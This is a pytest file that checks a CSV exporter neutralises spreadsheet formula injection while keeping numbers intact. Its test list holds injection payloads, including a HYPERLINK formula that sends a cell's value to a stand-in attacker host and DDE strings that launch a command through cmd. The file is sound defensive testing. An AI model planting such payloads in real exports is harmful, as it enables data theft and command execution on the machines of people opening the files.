"""Cells that a spreadsheet would run: none leaves by any door, and what is a number stays one."""

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import pincite
from pincite.cli.views.table_view import as_csv
from pincite.formats.spreadsheet import csv_text, inert, restored
from pincite.lab.scoring import wattbot
from pincite.serve import table_view as tabled
from pincite.types import Cell, Table
from pincite.workbench import submissions
from pincite.workbench.batch import read_questions, write

FORMULAS = [
    "=1+1", '=HYPERLINK("http://evil.example/?"&A1,"open")', "=cmd|' /C calc'!A0", "+1+1", "+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0", "-2+3", "-4521,=1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1", "\ufeff=1+1", "\u200b@x", "\0=1+1", "＝1+1", "＠x", "'=1+1", "-e5+x", "--5", "+-A1",
]  # fmt: skip
NUMBERS = [
    "-5", "-4,521", "+3.5", "-12.5%", "-1e-5", "-3.2E+10", "-", "−7", "- 12", "+46 70 123 45 67", "-.5", "0", "12",
]  # fmt: skip
STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n")


def runs(cell):
    """Whether a spreadsheet runs a cell: told without the code that writes it."""
    seen = cell.lstrip(" \u00a0\u200b\ufeff\0")
    return (
        seen.startswith(STARTS)
        and any(character not in "0123456789.,%eE+- \u00a0\u202f" for character in seen)
        or (
            seen.startswith(STARTS)
            and any(sign in seen[1:] for sign in "+-")
            and "e" not in seen.casefold()
        )
    )


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("formula", FORMULAS)
def test_every_form_of_a_formula_is_a_text(formula):
    assert inert(formula) == f"'{formula}"
    assert restored(inert(formula)) == formula


@pytest.mark.parametrize("number", [*NUMBERS, -5, -4.5, 0, None, True])
def test_a_number_stays_a_number(number):
    assert inert(number) is number


@given(
    st.text(alphabet=st.sampled_from("=+-@'\t\r\n 15.,%eA1|!\ufeff＝"), max_size=8)
    | st.text(max_size=6)
)
def test_no_text_runs_and_every_text_comes_back(text):
    assert not runs(inert(text))
    assert restored(inert(text)) == text


def test_headings_and_cells_of_rows_of_a_database():
    told = cells(as_csv(["=1+1", "n"], [[formula, -5] for formula in FORMULAS]))
    assert not [cell for cell in told if runs(cell)]
    assert told.count("-5") == len(FORMULAS)


def test_a_table_of_a_document():
    table = Table(tuple(Cell(row, 0, text) for row, text in enumerate([*FORMULAS, "-4,521"])))
    told = cells(tabled.as_csv(table))
    assert not [cell for cell in told if runs(cell)] and told[-1] == "-4,521"


def record(**fields):
    return {
        "id": "1", "answer_id": "a", "question": "q", "value": None, "unit": "", "text": "", "refused": False,
        "confidence": 0.5, "citations": [], **fields,
    }  # fmt: skip


def test_answers_of_a_batch_and_the_same_file_as_questions(tmp_path):
    out = tmp_path / "answers.csv"
    cited = {"document": "=doc.pdf", "page": 1}
    made = [
        record(
            id=f"{number}",
            question=formula,
            value=formula,
            text=formula,
            unit="@m",
            citations=[cited],
        )
        for number, formula in enumerate(FORMULAS)
    ]
    write(out, "csv", [None] * len(made), [*made], None)
    told = cells(out.read_bytes().decode())
    assert not [cell for cell in told if runs(cell)]
    assert [question.text for question in read_questions(out)] == FORMULAS


def test_negative_values_of_a_batch(tmp_path):
    out = tmp_path / "answers.csv"
    write(
        out, "csv", [None] * 2, [record(value=-5, text="-5"), record(value=-4.5, text="-4,521 USD")], None,
    )  # fmt: skip
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert [(row["value"], row["text"]) for row in rows] == [("-5", "-5"), ("-4.5", "'-4,521 USD")]


def test_a_submission_and_its_reader(tmp_path):
    path = tmp_path / "submission.csv"
    row = {column: "=1+1" for column in submissions.WATTBOT_COLUMNS}
    submissions.write_wattbot(path, [row])
    assert not [cell for cell in cells(path.read_bytes().decode()) if runs(cell)]
    assert wattbot.read_submission(path)["=1+1"] == row


def test_one_module_alone_writes_csv():
    package = Path(pincite.__file__).parent
    writers = {
        path.relative_to(package).as_posix()
        for path in package.rglob("*.py")
        if "csv.writer(" in (text := path.read_text(encoding="utf-8"))
        or "DictWriter" in text
        or ".to_csv(" in text
    }
    assert writers == {"formats/spreadsheet.py"}


def test_the_text_of_rows_is_what_csv_reads_back():
    rows = [["a,b", 'say "x"', "-5"], ["c\nd", "", "1"]]
    assert list(csv.reader(io.StringIO(csv_text(rows), newline=""))) == rows
